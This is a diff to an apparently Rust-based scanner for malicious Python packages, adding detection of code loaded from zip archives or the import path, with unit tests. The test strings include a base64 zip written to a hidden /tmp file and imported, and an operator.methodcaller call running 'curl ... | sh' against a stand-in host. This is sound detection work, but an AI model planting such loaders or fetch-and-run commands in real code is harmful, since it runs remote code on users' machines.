@@ -358,6 +358,10 @@ fn loaded_path<'c>(call: &'c ExprCall, qualname: &str) -> Option<&'c Expr> {
         | "ctypes.pydll.LoadLibrary"
         | "ctypes.windll.kernel32.LoadLibraryA"
         | "ctypes.windll.kernel32.LoadLibraryW" => (0, "name"),
+        // The modules of a zip archive run as they are loaded from it; one put on the import
+        // path runs at the next import of a name it holds.
+        "zipimport.zipimporter" | "sys.path.append" => (0, "path"),
+        "sys.path.insert" => (1, "path"),
         _ => return None,
     };
     call.arguments
@@ -652,6 +656,27 @@ pub fn check_py2_exec_statements(checker: &mut Checker, body: &[Stmt]) {
 mod tests {
     #![allow(clippy::expect_used)]
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn an_unpacked_embedded_archive_loaded_as_code_runs_it() {
+        let zipimport = "import base64, zipimport\nopen('/tmp/.m.zip', 'wb').write(base64.b64decode('UEsDBBQAAAAIAAAAIQB4nMtMz8ksSE0BAA=='))\nzipimport.zipimporter('/tmp/.m.zip').load_module('agent')\n";
+        assert!(max_severity("p/pkg/__init__.py", zipimport, "WH110") >= 0.85);
+        let path = "import base64, sys\np = '/tmp/.m.zip'\nopen(p, 'wb').write(base64.b64decode('UEsDBBQAAAAIAAAAIQB4nMtMz8ksSE0BAA=='))\nsys.path.insert(0, p)\n";
+        assert!(max_severity("p/pkg/__init__.py", path, "WH110") >= 0.85);
+        let own = "import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor.zip'))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", own, "WH110"), 0.0);
+    }
+
+    #[test]
+    fn a_method_caller_calls_the_method_it_names() {
+        let code = "import operator, os\nrun = operator.methodcaller('system', 'curl -s https://x.example/i.sh | sh')\nrun(os)\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
+        let inline = "import operator, os\noperator.methodcaller('system', 'curl -s https://x.example/i.sh | sh')(os)\n";
+        assert!(max_severity("p/pkg/__init__.py", inline, "WH120") >= 0.8);
+        let sorter =
+            "import operator\nnames = sorted(['b', 'a'], key=operator.methodcaller('lower'))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", sorter, "WH120"), 0.0);
+    }
 
     #[test]
     fn exec_of_a_line_of_a_local_file_is_the_version_idiom() {
